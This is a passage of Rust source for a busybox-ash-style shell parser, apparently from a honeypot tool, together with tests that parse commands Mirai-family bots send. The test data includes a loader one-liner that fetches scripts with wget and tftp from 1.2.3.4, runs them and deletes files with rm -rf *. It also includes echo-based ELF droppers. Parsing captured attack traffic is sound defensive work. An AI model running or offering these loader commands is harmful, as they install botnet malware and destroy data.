                    .unwrap_or(rest.len());
                let name = rest[..n].to_vec();
                self.pos += n;
                self.push_part(parts, WordPart::Var(name))
            }
            Some(c) if c.is_ascii_digit() || b"?$#@*!-".contains(&c) => {
                self.pos += 1;
                self.push_part(parts, WordPart::Var(vec![c]))
            }
            _ => self.push_text(parts, quoted, b"$"),
        }
    }

    /// At `` ` ``: the text up to the closing one, unescaped and parsed as a script.
    fn backquote(&mut self, in_dq: bool) -> Res<WordPart> {
        let open = self.pos;
        self.pos += 1;
        let mut text = Vec::new();
        loop {
            match self.input.get(self.pos) {
                None => return Err(self.error(ParseErrorKind::UnterminatedBackquote, open)),
                Some(b'`') => break,
                Some(b'\\') => match self.at(1) {
                    Some(b'\n') => self.pos += 2,
                    Some(e) if b"$`\\".contains(&e) || (in_dq && e == b'"') => {
                        text.push(e);
                        self.pos += 2;
                    }
                    _ => {
                        text.push(b'\\');
                        self.pos += 1;
                    }
                },
                Some(&c) => {
                    text.push(c);
                    self.pos += 1;
                }
            }
        }
        self.pos += 1;
        self.enter()?;
        let mut inner = Parser {
            input: &text,
            pos: 0,
            // Unescaping only shortens, so inner offsets stay before the closing quote.
            base: self.base + open + 1,
            depth: self.depth,
            max_depth: self.max_depth,
            nodes: self.nodes,
            max_nodes: self.max_nodes,
        };
        let body = inner.script()?;
        self.nodes = inner.nodes;
        self.leave();
        Ok(WordPart::CmdSubst(body))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Lines Mirai-family bots and their loaders send.
    const BOT_LINES: &[&str] = &[
        "enable",
        "system",
        "shell",
        "sh",
        "/bin/busybox MIRAI",
        "/bin/busybox ECCHI",
        "/bin/busybox ps; /bin/busybox ECCHI",
        "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
        r"echo -e '\x6b\x61\x6d\x69' > /dev/.nippon; /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon",
        r"/bin/busybox echo -ne '\x7f\x45\x4c\x46\x01\x01\x01\x00' >> .d; /bin/busybox ECCHI",
        r"/bin/busybox echo -ne '\x7f\x45\x4c\x46\x01\x01\x01\x00' > .d; /bin/busybox ECCHI",
        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://1.2.3.4/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 1.2.3.4 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; tftp -r tftp2.sh -g 1.2.3.4; rm -rf *",
        "cat /bin/echo 2>/dev/null >/dev/null",
        ">/dev/null 2>&1",
        "cmd 2>&1 | head -n 1",
        "for i in a b c; do echo $i; done",
        "while read line; do echo $line; done < /proc/mounts",
        "if [ -f x ]; then echo y; else echo n; fi",
        "echo \"$(uname -m)\"",
        "echo `uname -a`",
        "x=$(cat /proc/cpuinfo | grep ARM)",
        "echo a # a comment\necho b",
        "echo a \\\n b",
        "a&&b;c||d&e|f",
        "{ echo a; echo b; } > f 2>&1; (cd /tmp && ls)",
        "until false; do :; done; if a; then b; elif c; then d; fi",
        "echo \"a\\\"b $x ${y:-z} `id` $((1+2))\" 'c'\\ d",
    ];

    fn p(s: &str) -> Script {
        parse(s.as_bytes(), &Limits::default())
            .unwrap_or_else(|e| panic!("{s:?}: {e:?}: {}", e.message()))
    }

    fn err(s: &str) -> ParseError {
        match parse(s.as_bytes(), &Limits::default()) {
            Ok(script) => panic!("{s:?} parsed: {script:?}"),
            Err(e) => e,
        }
    }

    fn lit(s: &str) -> WordPart {
        WordPart::Literal(s.into())
    }

    fn q(s: &str) -> WordPart {
        WordPart::Quoted(s.into())
    }

    fn var(s: &str) -> WordPart {
        WordPart::Var(s.into())
    }

    fn w(parts: Vec<WordPart>) -> Word {
        Word(parts)
    }

    /// One unquoted word.
    fn l(s: &str) -> Word {
        w(vec![lit(s)])
    }

    fn words(s: &str) -> Vec<Word> {
        s.split(' ').map(l).collect()
    }

    /// A simple command of unquoted words.
    fn simple(s: &str) -> Command {
        cmd(words(s), vec![])
    }

    fn cmd(words: Vec<Word>, redirects: Vec<Redirect>) -> Command {
        Command::Simple(Simple {
            assigns: vec![],
            words,
            redirects,
        })
    }

    fn redir(fd: Option<u32>, op: RedirOp, target: &str) -> Redirect {
        Redirect {
            fd,
            op,
            target: l(target),
        }
    }

    fn pipe(commands: Vec<Command>) -> Pipeline {
        Pipeline {
            bang: false,
            commands,
        }
    }

    fn item(and_or: AndOr) -> Item {
        Item {
            and_or,
            background: false,
        }
    }

    fn single(c: Command) -> AndOr {
        AndOr {
            first: pipe(vec![c]),
            rest: vec![],
        }
    }

    /// Commands in sequence, each its own item.
    fn seq(cmds: Vec<Command>) -> Script {
        Script(cmds.into_iter().map(|c| item(single(c))).collect())
    }

    #[test]
    fn bot_logins() {
        for line in [
            "enable",
            "system",
            "shell",
            "sh",
            "/bin/busybox MIRAI",
            "/bin/busybox ECCHI",
        ] {
            assert_eq!(p(line), seq(vec![simple(line)]), "{line}");
        }
    }

    #[test]
    fn bot_probes() {
        assert_eq!(
            p("/bin/busybox ps; /bin/busybox ECCHI"),
            seq(vec![
                simple("/bin/busybox ps"),
                simple("/bin/busybox ECCHI")
            ])
        );
        assert_eq!(
            p("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI"),
            seq(vec![
                simple("/bin/busybox cat /proc/mounts"),
                simple("/bin/busybox ECCHI")
            ])
        );
    }

    #[test]
    fn echo_escapes_stay_for_echo() {
        let got = p(BOT_LINES[8]);
        let mut echo = words("echo -e");
        echo.push(w(vec![q(r"\x6b\x61\x6d\x69")]));
        assert_eq!(
            got,
            seq(vec![
                cmd(echo, vec![redir(None, RedirOp::Out, "/dev/.nippon")]),
                simple("/bin/busybox cat /dev/.nippon"),
                simple("/bin/busybox rm /dev/.nippon"),
            ])
        );
    }

    #[test]
    fn echo_dropper_append_and_truncate() {
        for (line, op) in [
            (BOT_LINES[9], RedirOp::Append),
            (BOT_LINES[10], RedirOp::Out),
        ] {
            let mut echo = words("/bin/busybox echo -ne");
            echo.push(w(vec![q(r"\x7f\x45\x4c\x46\x01\x01\x01\x00")]));
            assert_eq!(
                p(line),
                seq(vec![
                    cmd(echo, vec![redir(None, op, ".d")]),
                    simple("/bin/busybox ECCHI")
                ]),
                "{line}"
            );
        }
    }

    #[test]
    fn loader_one_liner() {
        let got = p(BOT_LINES[11]);
        let first = AndOr {
            first: pipe(vec![simple("cd /tmp")]),
            rest: ["cd /var/run", "cd /mnt", "cd /root", "cd /"]
                .into_iter()
                .map(|c| (Connector::Or, pipe(vec![simple(c)])))
                .collect(),
        };
        let mut want = vec![item(first)];
        want.extend(
            [
                "wget http://1.2.3.4/bins.sh",
                "chmod 777 bins.sh",
                "sh bins.sh",
                "tftp 1.2.3.4 -c get tftp1.sh",
                "chmod 777 tftp1.sh",
                "sh tftp1.sh",
                "tftp -r tftp2.sh -g 1.2.3.4",
                "rm -rf *",
            ]
            .into_iter()
            .map(|c| item(single(simple(c)))),
        );
        assert_eq!(got, Script(want));
    }

    #[test]
    fn redirections() {
        assert_eq!(
            p("cat /bin/echo 2>/dev/null >/dev/null"),
            seq(vec![cmd(
                words("cat /bin/echo"),
                vec![
                    redir(Some(2), RedirOp::Out, "/dev/null"),
                    redir(None, RedirOp::Out, "/dev/null")
                ]
            )])
        );
        assert_eq!(
            p(">/dev/null 2>&1"),
            seq(vec![cmd(
                vec![],
                vec![
                    redir(None, RedirOp::Out, "/dev/null"),
                    redir(Some(2), RedirOp::DupOut, "1")
                ]
            )])
        );
        assert_eq!(
            p("cmd 2>&1 | head -n 1"),
            Script(vec![item(AndOr {
                first: pipe(vec![
                    cmd(words("cmd"), vec![redir(Some(2), RedirOp::DupOut, "1")]),
                    simple("head -n 1"),
                ]),
                rest: vec![],
            })])
        );
        let ops = [
            ("<f", None, RedirOp::In),
            ("0<&3", Some(0), RedirOp::DupIn),
            ("<>f", None, RedirOp::ReadWrite),
            ("1>|f", Some(1), RedirOp::Clobber),
            ("123456789>f", Some(123_456_789), RedirOp::Out),
        ];
        for (text, fd, op) in ops {
            let Command::Simple(s) = &p(&format!("x {text}")).0[0].and_or.first.commands[0] else {
                panic!()
            };
            assert_eq!((s.redirects[0].fd, s.redirects[0].op), (fd, op), "{text}");
        }
    }

    #[test]
    fn a_number_before_a_redirection_is_its_fd_only_at_a_word_start() {
        assert_eq!(
            p("echo a2>f"),
            seq(vec![cmd(
                words("echo a2"),
                vec![redir(None, RedirOp::Out, "f")]
            )])
        );
        assert_eq!(
            p("echo 2 >f"),
            seq(vec![cmd(
                words("echo 2"),
                vec![redir(None, RedirOp::Out, "f")]
            )])
        );
        // Ten digits are too many for ash's fd: a word.
        assert_eq!(
            p("echo 1234567890>f"),
            seq(vec![cmd(
                words("echo 1234567890"),
                vec![redir(None, RedirOp::Out, "f")]
            )])
        );
    }

    #[test]
    fn operators_need_no_spaces() {
        let and = |a: &str, b: &str| AndOr {
            first: pipe(vec![simple(a)]),
            rest: vec![(Connector::And, pipe(vec![simple(b)]))],
        };
        assert_eq!(p("a&&b"), Script(vec![item(and("a", "b"))]));
        assert_eq!(p("a;b"), seq(vec![simple("a"), simple("b")]));
        assert_eq!(
            p("x>f"),
            seq(vec![cmd(words("x"), vec![redir(None, RedirOp::Out, "f")])])
        );
        assert_eq!(
            p("x 2>&1"),
            seq(vec![cmd(
                words("x"),
                vec![redir(Some(2), RedirOp::DupOut, "1")]
            )])
        );
        let got = p("a&&b;c||d&e|f");
        assert_eq!(got.0.len(), 3);
        assert_eq!(got.0[0], item(and("a", "b")));
        assert_eq!(got.0[1].and_or.rest[0].0, Connector::Or);
        assert!(got.0[1].background);
        assert_eq!(got.0[2].and_or.first, pipe(vec![simple("e"), simple("f")]));
    }

    #[test]
    fn compound_commands() {
        assert_eq!(
            p("for i in a b c; do echo $i; done"),
            seq(vec![Command::For {
                var: b"i".to_vec(),
                items: Some(words("a b c")),
                body: seq(vec![cmd(vec![l("echo"), w(vec![var("i")])], vec![])]),
                redirects: vec![],
            }])
        );
        assert_eq!(
            p("while read line; do echo $line; done < /proc/mounts"),
            seq(vec![Command::While {
                until: false,
                cond: seq(vec![simple("read line")]),
                body: seq(vec![cmd(vec![l("echo"), w(vec![var("line")])], vec![])]),
                redirects: vec![redir(None, RedirOp::In, "/proc/mounts")],
            }])
        );
        assert_eq!(
            p("if [ -f x ]; then echo y; else echo n; fi"),
            seq(vec![Command::If {
                branches: vec![(seq(vec![simple("[ -f x ]")]), seq(vec![simple("echo y")]))],
                otherwise: Some(seq(vec![simple("echo n")])),
                redirects: vec![],
            }])
        );
        assert_eq!(
            p("if a\nthen b\nelif c; then d\nfi >f"),
            seq(vec![Command::If {
                branches: vec![
                    (seq(vec![simple("a")]), seq(vec![simple("b")])),
                    (seq(vec![simple("c")]), seq(vec![simple("d")])),
                ],
                otherwise: None,
                redirects: vec![redir(None, RedirOp::Out, "f")],
            }])
        );
        assert_eq!(
            p("until x; do y; done"),
            seq(vec![Command::While {
                until: true,
                cond: seq(vec![simple("x")]),
                body: seq(vec![simple("y")]),
                redirects: vec![],
            }])
        );
        assert_eq!(
            p("for a do b; done"),
            seq(vec![Command::For {
                var: b"a".to_vec(),
                items: None,
                body: seq(vec![simple("b")]),
                redirects: vec![],
            }])
        );
        assert_eq!(
            p("{ a; b; } 2>&1; (c)"),
            seq(vec![
                Command::Group {
                    body: seq(vec![simple("a"), simple("b")]),
                    subshell: false,
                    redirects: vec![redir(Some(2), RedirOp::DupOut, "1")],
                },
                Command::Group {
                    body: seq(vec![simple("c")]),
                    subshell: true,
                    redirects: vec![],
                },
            ])
        );
        let bang = p("! a | b");
        assert!(bang.0[0].and_or.first.bang);
        assert_eq!(bang.0[0].and_or.first.commands.len(), 2);
    }

    #[test]
    fn keywords_only_in_command_position() {
        assert_eq!(p("echo done"), seq(vec![simple("echo done")]));
        assert_eq!(
            p("echo if then fi { }"),
            seq(vec![simple("echo if then fi { }")])
        );
        assert_eq!(p("done=1; {a}"), {
            let mut s = seq(vec![simple("{a}")]);
            s.0.insert(
                0,
                item(single(Command::Simple(Simple {
                    assigns: vec![(b"done".to_vec(), l("1"))],
                    words: vec![],
                    redirects: vec![],
                }))),
            );
            s
        });
        // The words after `in` are not keywords either.
        let Command::For { items, .. } =
            &p("for i in do done; do :; done").0[0].and_or.first.commands[0]
        else {
            panic!()
        };
        assert_eq!(items.as_deref(), Some(&words("do done")[..]));
    }

    #[test]
    fn substitutions() {
        assert_eq!(
            p("echo \"$(uname -m)\""),
            seq(vec![cmd(
                vec![
                    l("echo"),
                    w(vec![WordPart::DoubleQuoted(vec![WordPart::CmdSubst(seq(
                        vec![simple("uname -m")]
                    ))])])
                ],
                vec![]
            )])
        );
        assert_eq!(
            p("echo `uname -a`"),
            seq(vec![cmd(
                vec![
                    l("echo"),
                    w(vec![WordPart::CmdSubst(seq(vec![simple("uname -a")]))])
                ],
                vec![]
            )])
        );
        let pipeline = Script(vec![item(AndOr {
            first: pipe(vec![simple("cat /proc/cpuinfo"), simple("grep ARM")]),
            rest: vec![],
        })]);
        assert_eq!(
            p("x=$(cat /proc/cpuinfo | grep ARM)"),
            seq(vec![Command::Simple(Simple {
                assigns: vec![(b"x".to_vec(), w(vec![WordPart::CmdSubst(pipeline)]))],
                words: vec![],
                redirects: vec![],
            })])
        );
        assert_eq!(
            p("echo `echo \\`id\\``"),
            seq(vec![cmd(
                vec![
                    l("echo"),
                    w(vec![WordPart::CmdSubst(seq(vec![cmd(
                        vec![
                            l("echo"),
                            w(vec![WordPart::CmdSubst(seq(vec![simple("id")]))])
                        ],
                        vec![]
                    )]))])
                ],
                vec![]
            )])
        );
        assert_eq!(p("echo $()").0[0].and_or.first.commands[0], {
            cmd(
                vec![l("echo"), w(vec![WordPart::CmdSubst(Script(vec![]))])],
                vec![],
            )
        });
    }

    #[test]
    fn words_and_quotes() {
        let word = |s: &str| {
            let Command::Simple(c) = &p(&format!("x {s}")).0[0].and_or.first.commands[0] else {
                panic!()
            };
            assert_eq!(c.words.len(), 2, "{s}");
            c.words[1].clone()
        };
        assert_eq!(word("''"), w(vec![q("")]));
        assert_eq!(word("\"\""), w(vec![WordPart::DoubleQuoted(vec![])]));
        assert_eq!(word("a'b'\\c\\*d"), w(vec![lit("a"), q("bc*"), lit("d")]));
        assert_eq!(word("a#b"), l("a#b"));
        assert_eq!(
            word("$?$$$#$@$*$10"),
            w(vec![
                var("?"),
                var("$"),
                var("#"),
                var("@"),
                var("*"),
                var("1"),
                lit("0")
            ])
        );
        assert_eq!(
            word("${HOME}/x${y:-z}"),
            w(vec![var("HOME"), lit("/x"), var("y:-z")])
        );
        assert_eq!(
            word("$((1+(2*3)))"),
            w(vec![WordPart::Arith(b"1+(2*3)".to_vec())])
        );
        assert_eq!(word("$"), l("$"));
        assert_eq!(word("a$/"), l("a$/"));
        assert_eq!(
            word("\"a\\\"b\\n $x '\""),
            w(vec![WordPart::DoubleQuoted(vec![
                q("a\"b\\n "),
                var("x"),
                q(" '")
            ])])
        );
        // Bytes, not UTF-8.
        let got = parse(b"echo \xff\x00\xfe", &Limits::default()).unwrap();
        let Command::Simple(c) = &got.0[0].and_or.first.commands[0] else {
            panic!()
        };
        assert_eq!(c.words[1], w(vec![WordPart::Literal(vec![0xff, 0, 0xfe])]));
    }

    #[test]
    fn assignments() {
        let got = p("A=1 B='x'y C= cmd D=2");
        let Command::Simple(s) = &got.0[0].and_or.first.commands[0] else {
            panic!()
        };
        assert_eq!(
            s.assigns,
            vec![
                (b"A".to_vec(), l("1")),
                (b"B".to_vec(), w(vec![q("x"), lit("y")])),
                (b"C".to_vec(), w(vec![])),
            ]
        );
        assert_eq!(s.words, words("cmd D=2"));
        // Not a name before `=`, or quoted: a word.
        assert_eq!(p("1a=b"), seq(vec![simple("1a=b")]));
        assert_eq!(p("\"a\"=b").0[0].and_or.first.commands[0], {
            cmd(
                vec![w(vec![WordPart::DoubleQuoted(vec![q("a")]), lit("=b")])],
                vec![],
            )
        });
    }

    #[test]
    fn comments_continuations_and_empty_input() {
        assert_eq!(p(""), Script(vec![]));
        assert_eq!(p(" \t\n \n"), Script(vec![]));
        assert_eq!(p("# only a comment"), Script(vec![]));
        assert_eq!(
            p("echo a # c; d\necho b#c"),
            seq(vec![simple("echo a"), simple("echo b#c")])
        );
        assert_eq!(p("ec\\\nho a \\\n b"), seq(vec![simple("echo a b")]));
        assert_eq!(p("a &&\n\n b").0[0].and_or.rest.len(), 1);
        assert_eq!(p("a |\n b").0[0].and_or.first.commands.len(), 2);
        assert_eq!(
            p("echo 'a\\\nb'"),
            seq(vec![cmd(vec![l("echo"), w(vec![q("a\\\nb")])], vec![])])
        );
        assert!(p("a &").0[0].background);
    }

    #[test]
    fn syntax_errors_as_ash_prints_them() {
        let cases: &[(&str, &str, usize)] = &[
            ("echo 'abc", "syntax error: unterminated quoted string", 5),
            ("echo \"abc", "syntax error: unterminated quoted string", 5),
            ("then", "syntax error: unexpected \"then\"", 0),
            ("echo a; fi", "syntax error: unexpected \"fi\"", 8),
            (
                "if true; then",
                "syntax error: unexpected end of file (expecting \"fi\")",
                13,
            ),
            (
                "for i in a; do echo",
                "syntax error: unexpected end of file (expecting \"done\")",
                19,
            ),
            (
                "while a; b",
                "syntax error: unexpected end of file (expecting \"do\")",
                10,
            ),
            (
                "if a then b; fi",
                "syntax error: unexpected \"fi\" (expecting \"then\")",
                13,
            ),
            (";;", "syntax error: unexpected \";;\"", 0),
            ("a;;", "syntax error: unexpected \";;\"", 1),
            ("&& a", "syntax error: unexpected \"&&\"", 0),
            ("; a", "syntax error: unexpected \";\"", 0),
            ("a |", "syntax error: unexpected end of file", 3),
            ("echo >", "syntax error: unexpected end of file", 6),
            ("echo >\n", "syntax error: unexpected newline", 6),
            ("echo > >f", "syntax error: unexpected redirection", 7),
            ("a )", "syntax error: unexpected \")\"", 2),
            ("{ }", "syntax error: unexpected \"}\"", 2),
            (
                "{",
                "syntax error: unexpected end of file (expecting \"}\")",
                1,
            ),
            ("while :; do done", "syntax error: unexpected \"done\"", 12),
            ("{ a; } b", "syntax error: unexpected word", 7),
            (
                "(a",
                "syntax error: unexpected end of file (expecting \")\")",
                2,
            ),
            (
                "echo $(ls",
                "syntax error: unexpected end of file (expecting \")\")",
                9,
            ),
            ("echo `ls", "syntax error: EOF in backquote substitution", 5),
            ("echo ${x", "syntax error: missing '}'", 5),
            ("echo ${}", "syntax error: bad substitution", 5),
            ("echo $((1+2", "syntax error: missing '))'", 5),
            (
                "for 1 in a; do b; done",
                "syntax error: bad for loop variable",
                4,
            ),
            ("echo `a; fi`", "syntax error: unexpected \"fi\"", 9),
        ];
        for &(input, message, offset) in cases {
            let e = err(input);
            assert_eq!(
                (e.message().as_str(), e.offset),
                (message, offset),
                "{input:?}: {e:?}"
            );
        }
        assert_eq!(
            err("case x in esac").kind,
            ParseErrorKind::Unsupported(Unsupported::Case)
        );
        assert_eq!(
            err("cat <<EOF").kind,
            ParseErrorKind::Unsupported(Unsupported::HereDoc)
        );
        assert_eq!(
            err("f() { a; }").kind,
            ParseErrorKind::Unsupported(Unsupported::Function)
        );
    }

    #[test]
    fn nesting_is_capped() {
        let limits = Limits::default();
        let nested = |n: usize| format!("{}x{}", "$(".repeat(n), ")".repeat(n));
        assert!(parse(nested(16).as_bytes(), &limits).is_ok());
        assert_eq!(
            parse(nested(17).as_bytes(), &limits).unwrap_err().kind,
            ParseErrorKind::TooDeep
        );
        let quoted = |n: usize| format!("{}x{}", "\"$(".repeat(n), ")\"".repeat(n));
        assert_eq!(p(&quoted(8)).depth(), 16);
        assert_eq!(
            parse(quoted(9).as_bytes(), &limits).unwrap_err().kind,
            ParseErrorKind::TooDeep
        );
        let groups = format!("{}x{}", "{ ".repeat(17), "; }".repeat(17));
        assert_eq!(
            parse(groups.as_bytes(), &limits).unwrap_err().kind,
            ParseErrorKind::TooDeep
        );
        // A huge max_depth is held to the ceiling.
        let huge = Limits {
            max_depth: usize::MAX,
            max_nodes: usize::MAX,
        };
        let deep = "(".repeat(100_000);
        assert_eq!(
            parse(deep.as_bytes(), &huge).unwrap_err().kind,
            ParseErrorKind::TooDeep
        );
    }

    #[test]
    fn size_is_capped() {
        let many = "a ".repeat(5000);
        let e = parse(many.as_bytes(), &Limits::default()).unwrap_err();
        assert_eq!(e.kind, ParseErrorKind::TooLarge);
        assert_eq!(e.message(), "out of memory");
    }

    /// The caps count exactly what `node_count` and `depth` report: a script parses
    /// with limits at its own counts, and not with one less.
    #[test]
    fn limits_match_the_counts() {
        for line in BOT_LINES {
            let s = p(line);
            let (nodes, depth) = (s.node_count(), s.depth());
            let at = Limits {
                max_depth: depth,
                max_nodes: nodes,
            };
            assert_eq!(parse(line.as_bytes(), &at).as_ref(), Ok(&s), "{line}");
            let fewer = Limits {
                max_nodes: nodes - 1,
                ..at
            };
            let e = parse(line.as_bytes(), &fewer).unwrap_err();
            assert_eq!(e.kind, ParseErrorKind::TooLarge, "{line}");
            if depth > 0 {
                let shallower = Limits {
                    max_depth: depth - 1,
                    ..at
                };
                let e = parse(line.as_bytes(), &shallower).unwrap_err();
                assert_eq!(e.kind, ParseErrorKind::TooDeep, "{line}");
            }
        }
    }

    /// Inputs that would take exponential or quadratic time in a backtracking parser.
    #[test]
    fn pathological_inputs_are_fast() {
        let start = std::time::Instant::now();
        let limits = Limits::default();
        for unit in [
            "$(", "((", "(", "{ ", "\"$(", "`", "$((", "${", "'", "\\", "a|", "&&", "\"", "$(($(",
            "`\\`",
        ] {
            for n in [1, 10, 1000, 100_000] {
                let input = unit.repeat(n);
                let _ = parse(input.as_bytes(), &limits);
            }
        }
        assert!(
            start.elapsed() < std::time::Duration::from_secs(5),
            "{:?}",
            start.elapsed()
        );
    }

    #[test]
    fn every_prefix_of_the_bot_lines_parses_or_fails_cleanly() {
        let all = BOT_LINES.join("\n");
        for line in BOT_LINES.iter().copied().chain([all.as_str()]) {
            let bytes = line.as_bytes();
            for end in 0..=bytes.len() {
                for start in [0, end / 2] {
                    let part = &bytes[start..end];
                    match parse(part, &Limits::default()) {
                        Ok(s) => assert!(s.node_count() <= 4096),
                        Err(e) => {
                            assert!(e.offset <= part.len(), "{part:?}: {e:?}");
                            assert!(e.message().starts_with("syntax error: "), "{e:?}");
                        }
                    }
                }
            }
        }
    }
}
